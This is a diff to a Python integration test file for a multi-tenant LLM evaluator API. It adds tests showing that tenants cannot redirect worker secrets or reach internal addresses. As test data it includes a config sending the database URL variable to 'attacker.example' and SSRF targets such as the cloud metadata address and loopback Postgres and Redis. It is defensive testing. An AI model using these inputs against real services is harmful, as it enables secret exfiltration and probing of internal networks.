@@ -29,11 +29,32 @@ from tests.support.servers import serve
 pytestmark = pytest.mark.integration
 
 RELEVANCE = BUILTIN["relevance@1"]
+BOUND = f"t-bound-{uuid.uuid4().hex[:8]}"  # the one tenant the `bound` credential is granted to
+
+# The operator's grants, as the API checks configs against them (the keys stay with the worker).
+CREDENTIALS = {
+    "openai": {"key_env": "JUDGE_KEY", "base_urls": ["https://api.openai.com/v1"], "tenants": ["*"]},
+    "bound": {"key_env": "BOUND_KEY", "base_urls": ["https://judge.bound.example/v1"], "tenants": [BOUND]},
+    # An operator's mistake: a credential for internal endpoints. Egress refuses them all the same.
+    "careless": {"key_env": "CARELESS_KEY", "tenants": ["*"], "base_urls": [
+        "http://127.0.0.1:5432/v1", "http://169.254.169.254/", "http://judge.internal.example/v1",
+        "http://[::ffff:127.0.0.1]:6379/v1", "http://nowhere.example/v1", "http://127.0.0.1:8099/v1"]},
+}
+# Names answer from this table, never from DNS. The public addresses are only checked, never connected to.
+ADDRESSES = {"api.openai.com": ["162.159.140.245"], "judge.bound.example": ["93.184.215.14"],
+             "judge.internal.example": ["93.184.215.14", "10.1.2.3"]}
+
+
+async def resolve(host: str, port: int) -> list[str]:
+    if host not in ADDRESSES:
+        raise OSError(-2, "Name or service not known")
+    return ADDRESSES[host]
 
 
 @pytest.fixture(scope="module")
 def api_url(stack: CommonSettings) -> Iterator[str]:
-    with serve(create_app(EvaluatorSettings(**stack.model_dump()))) as url:
+    settings = EvaluatorSettings(**{**stack.model_dump(), "egress_allow": "127.0.0.1:8099"}, credentials=CREDENTIALS)
+    with serve(create_app(settings, resolver=resolve)) as url:
         yield url
 
 
@@ -86,7 +107,7 @@ def evaluator_body(evaluator_id: str, **overrides: Any) -> dict[str, Any]:
         "custom_rubrics": [{"name": "tone", "version": 2, "criteria": "Polite.", "steps": ["Judge the tone."],
                             "scale_min": 1, "scale_max": 3, "labels": ["rude", "neutral", "warm"]}],
         "sample_rate": 0.1,
-        "judge": {"model": "gpt-4o-mini", "base_url": "https://api.openai.com/v1", "api_key_env": "JUDGE_KEY"},
+        "judge": {"model": "gpt-4o-mini", "base_url": "https://api.openai.com/v1", "credential": "openai"},
         "daily_spend_cap_usd": "5.00",
     }
     body.update(overrides)
@@ -166,7 +187,7 @@ async def test_every_error_is_problem_details(api_url: str, clients: tuple[Tenan
         assert set(body) == {"type", "title", "status", "detail"} and body["status"] == status, body
     assert answers[404].json() == {"type": "about:blank", "title": "Not Found", "status": 404,
                                    "detail": "no evaluator 'nope'"}
-    assert answers[409].json()["detail"].startswith(f"evaluator id {evaluator_id!r} is taken")
+    assert answers[409].json()["detail"].startswith(f"you already have an evaluator {evaluator_id!r}")
     invalid = (await a.admin.post("/v1/evaluators", json=evaluator_body("ev-x", sample_rate=2, rubrics=[]))).json()
     assert [e["loc"] for e in invalid["errors"]] == [["body", "rubrics"], ["body", "sample_rate"]]
     assert invalid["detail"].startswith("rubrics: ") and "; sample_rate: " in invalid["detail"]
@@ -184,7 +205,6 @@ async def test_evaluator_crud_is_per_tenant(clients: tuple[Tenant, Tenant]) -> N
     assert created.json()["daily_spend_cap_usd"] == "5.00"
 
     assert (await a.admin.post("/v1/evaluators", json=evaluator_body(evaluator_id))).status_code == 409
-    assert (await b.admin.post("/v1/evaluators", json=evaluator_body(evaluator_id))).status_code == 409  # taken
     assert [e["id"] for e in (await a.admin.get("/v1/evaluators")).json()["items"]] == [evaluator_id]
     assert (await b.admin.get("/v1/evaluators")).json()["items"] == []
     assert (await a.admin.get(f"/v1/evaluators/{evaluator_id}")).json()["sample_rate"] == 0.1
@@ -210,6 +230,7 @@ async def test_evaluator_validation_names_the_field(clients: tuple[Tenant, Tenan
         (evaluator_body("ev-x", rubrics=[]), ["body", "rubrics"]),
         (evaluator_body("ev-x", judge={"model": "m", "base_url": "https://x/v1", "api_key_env": "sk-abc"}),
          ["body", "judge", "api_key_env"]),
+        (evaluator_body("ev-x", judge={"model": "m", "base_url": "https://x/v1"}), ["body", "judge", "credential"]),
         (evaluator_body("ev-x", tenant_id="someone-else"), ["body", "tenant_id"]),
         ({k: v for k, v in evaluator_body("ev-x").items() if k != "daily_spend_cap_usd"},
          ["body", "daily_spend_cap_usd"]),
@@ -223,6 +244,85 @@ async def test_evaluator_validation_names_the_field(clients: tuple[Tenant, Tenan
     assert field_of(await a.admin.put(f"/v1/evaluators/{real}", json=evaluator_body("other"))) == [["body", "id"]]
     assert (await a.admin.post("/v1/evaluators", content=b"[1, 2]",
                                headers={"content-type": "application/json"})).status_code == 422
+
+
+async def test_two_tenants_may_both_have_an_evaluator_id(clients: tuple[Tenant, Tenant]) -> None:
+    a, b = clients
+    a_made = await a.admin.post("/v1/evaluators", json=evaluator_body("support-quality"))
+    b_made = await b.admin.post("/v1/evaluators", json=evaluator_body("support-quality", sample_rate=0.5))
+    assert (a_made.status_code, b_made.status_code) == (201, 201)  # on main: 409, telling b that a uses it
+    assert (await a.admin.get("/v1/evaluators/support-quality")).json()["sample_rate"] == 0.1
+    assert (await b.admin.get("/v1/evaluators/support-quality")).json()["sample_rate"] == 0.5
+    assert (await b.admin.delete("/v1/evaluators/support-quality")).status_code == 204
+    assert (await a.admin.get("/v1/evaluators/support-quality")).json()["enabled"] is True
+
+
+# -- judge credentials and egress -------------------------------------------------------------------
+
+
+def problem_fields(response: httpx.Response) -> list[tuple[Any, str]]:
+    assert response.status_code == 422, response.text
+    return [(tuple(e["loc"]), e["msg"]) for e in response.json()["errors"]]
+
+
+async def test_a_tenant_cannot_have_a_variable_of_the_worker_sent_anywhere(clients: tuple[Tenant, Tenant]) -> None:
+    a, _ = clients
+    body = evaluator_body("ev-steal", judge={"model": "m", "base_url": "https://attacker.example/v1",
+                                             "api_key_env": "LLMOPS_DATABASE_URL", "credential": "openai"})
+    response = await a.admin.post("/v1/evaluators", json=body)  # on main: 201, and the worker sends it
+    assert (("body", "judge", "api_key_env"), "Value error, not accepted: name a judge credential the operator "
+            "granted you in `credential`") in problem_fields(response)
+    # Naming the variable as a credential gets nothing either, and says nothing about the environment.
+    named = evaluator_body("ev-steal", judge={"model": "m", "base_url": "https://api.openai.com/v1",
+                                              "credential": "LLMOPS_DATABASE_URL"})
+    response = await a.admin.post("/v1/evaluators", json=named)
+    assert problem_fields(response) == [(("body", "judge", "credential"), "credential unavailable")]
+    assert "postgresql" not in response.text and "not set" not in response.text
+
+
+async def test_a_credential_is_usable_only_by_the_tenants_it_is_granted_to(
+        clients: tuple[Tenant, Tenant], make_key: Any, api_url: str) -> None:
+    a, _ = clients
+    judge = {"model": "m", "base_url": "https://judge.bound.example/v1", "credential": "bound"}
+    key = await make_key(BOUND, ["admin"])
+    async with httpx.AsyncClient(base_url=api_url, headers={"authorization": f"Bearer {key}"}, timeout=10) as bound:
+        assert (await bound.post("/v1/evaluators", json=evaluator_body("ev-bound", judge=judge))).status_code == 201
+        # Its own credential, but to an endpoint it is not for: the key would leave for elsewhere.
+        elsewhere = {**judge, "base_url": "https://judge.acme.example/v1"}
+        response = await bound.put("/v1/evaluators/ev-bound", json=evaluator_body("ev-bound", judge=elsewhere))
+        assert problem_fields(response) == [(("body", "judge", "base_url"), "credential unavailable")]
+    theirs = await a.admin.post("/v1/evaluators", json=evaluator_body("ev-bound", judge=judge))
+    unknown = await a.admin.post("/v1/evaluators", json=evaluator_body("ev-bound", judge={**judge, "credential": "x"}))
+    # Granted to another tenant or not declared at all: the same answer, so a tenant learns nothing of others'.
+    assert problem_fields(theirs) == problem_fields(unknown) == [(("body", "judge", "credential"),
+                                                                  "credential unavailable")]
+    assert theirs.json()["detail"] == unknown.json()["detail"]
+
+
+@pytest.mark.parametrize("base_url", [
+    "http://127.0.0.1:5432/v1",  # Postgres, on the worker's loopback
+    "http://169.254.169.254/",  # the cloud metadata service
+    "http://judge.internal.example/v1",  # a name with one private address among its public ones
+    "http://[::ffff:127.0.0.1]:6379/v1",  # Redis, as an IPv4-mapped IPv6 address
+    "http://nowhere.example/v1",  # a name that does not resolve: the same answer
+])
+async def test_a_base_url_the_worker_may_not_reach_is_refused_at_create_time(
+        clients: tuple[Tenant, Tenant], base_url: str) -> None:
+    a, _ = clients
+    body = evaluator_body("ev-ssrf", judge={"model": "m", "base_url": base_url, "credential": "careless"})
+    response = await a.admin.post("/v1/evaluators", json=body)  # on main: 201
+    assert problem_fields(response) == [(("body", "judge", "base_url"), "destination not allowed")]
+    made = await a.admin.post("/v1/evaluators", json=evaluator_body("ev-ssrf"))
+    assert made.status_code == 201  # a public endpoint is fine
+    replaced = await a.admin.put("/v1/evaluators/ev-ssrf", json=body)
+    assert problem_fields(replaced) == [(("body", "judge", "base_url"), "destination not allowed")]
+
+
+async def test_an_allowed_private_destination_is_accepted(clients: tuple[Tenant, Tenant]) -> None:
+    a, _ = clients  # LLMOPS_EGRESS_ALLOW=127.0.0.1:8099 (as the local stack's fake LLM)
+    body = evaluator_body("ev-local", judge={"model": "m", "base_url": "http://127.0.0.1:8099/v1",
+                                             "credential": "careless"})
+    assert (await a.admin.post("/v1/evaluators", json=body)).status_code == 201
 
 
 # -- feedback ---------------------------------------------------------------------------------------
